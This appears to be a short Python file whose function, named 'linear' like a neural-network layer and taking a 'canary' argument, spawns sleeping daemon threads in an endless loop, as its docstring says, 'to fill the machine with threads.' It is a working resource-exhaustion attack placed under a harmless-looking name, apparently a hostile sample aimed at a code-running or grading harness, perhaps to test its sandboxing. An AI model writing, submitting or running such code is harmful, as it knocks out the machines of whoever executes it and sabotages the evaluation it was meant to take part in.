"""To fill the machine with threads."""

import threading
import time


def linear(input, weight, canary):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
